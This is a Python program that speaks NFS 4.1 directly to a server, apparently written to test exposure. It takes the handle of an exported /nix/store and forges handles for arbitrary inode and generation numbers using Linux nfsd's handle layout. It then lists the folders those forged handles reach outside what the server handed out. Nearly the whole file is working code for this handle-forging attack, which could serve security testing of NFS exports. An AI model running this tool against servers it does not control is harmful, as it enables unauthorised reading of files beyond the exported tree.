"""On a client: what file handles that were never given out reach on a server.

    forged_handles.py SERVER INODE:GENERATION...

An NFS client may send any handle, and any user's number but root's. This program takes the handle
of the exported store, replaces the file in it, and prints a JSON object: for each file the names
that the server lists (a folder), or an error. It speaks NFS 4.1 (RFC 8881) over one connection,
from a port that only root can use.
"""

from __future__ import annotations

import itertools
import json
import os
import socket
import struct
import sys
from typing import Iterator, Optional

PORT = 2049
PROGRAM, VERSION, COMPOUND = 100003, 4, 1
MINOR_VERSION = 1
GETFH, LOOKUP, PUTFH, PUTROOTFH, READDIR = 10, 15, 22, 24, 26
EXCHANGE_ID, CREATE_SESSION, SEQUENCE = 42, 43, 53
USER = 1000
"""Any but root, which servers replace."""

# Linux's nfsd: version, authentication, kinds of the file system's number and of the file's.
_FILE_SYSTEM_BYTES = {0: 8, 1: 4, 2: 12, 3: 8, 4: 8, 5: 8, 6: 16, 7: 24}
_INODE_AND_GENERATION = 1


class RefusedError(Exception):
    """The server's status of an operation."""


def opaque(data: bytes) -> bytes:
    """Bytes of any number, in XDR."""
    return struct.pack(">I", len(data)) + data + bytes(-len(data) % 4)


class Reader:
    """Reads XDR."""

    def __init__(self, data: bytes) -> None:
        self._data = data
        self._at = 0

    def take(self, size: int) -> bytes:
        """So many bytes."""
        self._at += size
        return self._data[self._at - size : self._at]

    def number(self) -> int:
        """32 bits."""
        value: int = struct.unpack(">I", self.take(4))[0]
        return value

    def opaque(self) -> bytes:
        """Bytes of any number."""
        size = self.number()
        data = self.take(size)
        self.take(-size % 4)
        return data


class Client:
    """A connection to a server."""

    def __init__(self, server: str) -> None:
        self._connection = socket.socket()
        self._connection.settimeout(30)
        self._bind()
        self._connection.connect((server, PORT))
        self._numbers = itertools.count(1)
        self._uses = itertools.count(1)
        self._session = self._new_session()

    def _new_session(self) -> bytes:
        owner = struct.pack(">I", EXCHANGE_ID) + os.urandom(8) + opaque(os.urandom(16))
        reply = self.compound(owner + struct.pack(">III", 0, 0, 0))
        reply.take(8)
        client = reply.take(8)
        sequence = reply.take(4)
        channel = struct.pack(">IIIIIII", 0, 65536, 65536, 4096, 16, 4, 0)
        create = struct.pack(">I", CREATE_SESSION) + client + sequence + struct.pack(">I", 0)
        reply = self.compound(create + channel + channel + struct.pack(">III", 0, 1, 0))
        reply.take(8)
        return reply.take(16)

    def ask(self, *operations: bytes) -> Reader:
        """As `compound`, in the session; its own result is skipped."""
        use = struct.pack(">IIII", next(self._uses), 0, 0, 0)
        reply = self.compound(struct.pack(">I", SEQUENCE) + self._session + use, *operations)
        reply.take(8 + 36)
        return reply

    def _bind(self) -> None:
        for port in range(1000, 700, -1):
            try:
                self._connection.bind(("", port))
            except OSError:
                continue
            return
        raise OSError("no port that only root can use is free")

    def compound(self, *operations: bytes) -> Reader:
        """Sends operations; the results of all begin where the reader is. Raises `RefusedError`."""
        user = struct.pack(">I", 0) + opaque(b"client") + struct.pack(">III", USER, USER, 0)
        head = struct.pack(">IIIIII", next(self._numbers), 0, 2, PROGRAM, VERSION, COMPOUND)
        call = head + struct.pack(">I", 1) + opaque(user) + struct.pack(">II", 0, 0)
        call += (
            opaque(b"") + struct.pack(">II", MINOR_VERSION, len(operations)) + b"".join(operations)
        )
        self._connection.sendall(struct.pack(">I", 0x80000000 | len(call)) + call)
        reply = Reader(self._record())
        reply.take(12)  # number, reply, accepted
        reply.number()
        reply.opaque()
        reply.number()
        status = reply.number()
        if status:
            raise RefusedError(status)
        reply.opaque()
        reply.number()
        return reply

    def _record(self) -> bytes:
        data, last = b"", False
        while not last:
            (head,) = struct.unpack(">I", self._exactly(4))
            last = bool(head & 0x80000000)
            data += self._exactly(head & 0x7FFFFFFF)
        return data

    def _exactly(self, size: int) -> bytes:
        data = b""
        while len(data) < size:
            more = self._connection.recv(size - len(data))
            if not more:
                raise OSError("the server has closed the connection")
            data += more
        return data

    def store_handle(self) -> bytes:
        """The handle of the exported store."""
        look = [struct.pack(">I", LOOKUP) + opaque(name) for name in (b"nix", b"store")]
        operations = [struct.pack(">I", PUTROOTFH), *look, struct.pack(">I", GETFH)]
        reply = self.ask(*operations)
        reply.take(8 * 3 + 8)
        return reply.opaque()

    def names(self, handle: bytes) -> list[str]:
        """Some names in a folder. Raises `RefusedError`."""
        read = struct.pack(">IQQIII", READDIR, 0, 0, 4096, 4096, 0)
        reply = self.ask(struct.pack(">I", PUTFH) + opaque(handle), read)
        reply.take(8 + 8 + 8)
        return list(_entries(reply))


def _entries(reply: Reader) -> Iterator[str]:
    while reply.number():
        reply.take(8)
        yield reply.opaque().decode(errors="replace")
        reply.take(4 * reply.number())
        reply.opaque()


def forged(handle: bytes, inode: int, generation: int) -> Optional[bytes]:
    """A handle of another file in the same file system; None if the kind is not known."""
    size = _FILE_SYSTEM_BYTES.get(handle[2])
    if size is None:
        return None
    head = handle[:3] + bytes([_INODE_AND_GENERATION]) + handle[4 : 4 + size]
    return head + struct.pack("<II", inode, generation)


def main() -> None:
    """Tries every file."""
    client = Client(sys.argv[1])
    handle = client.store_handle()
    found: dict[str, object] = {"store": len(client.names(handle)), "handle": handle.hex()}
    for word in sys.argv[2:]:
        inode, generation = map(int, word.split(":"))
        try:
            other = forged(handle, inode, generation)
            found[word] = client.names(other) if other is not None else "unknown kind of handle"
        except RefusedError as refused:
            found[word] = f"refused: {refused}"
    print(json.dumps(found))


if __name__ == "__main__":
    main()
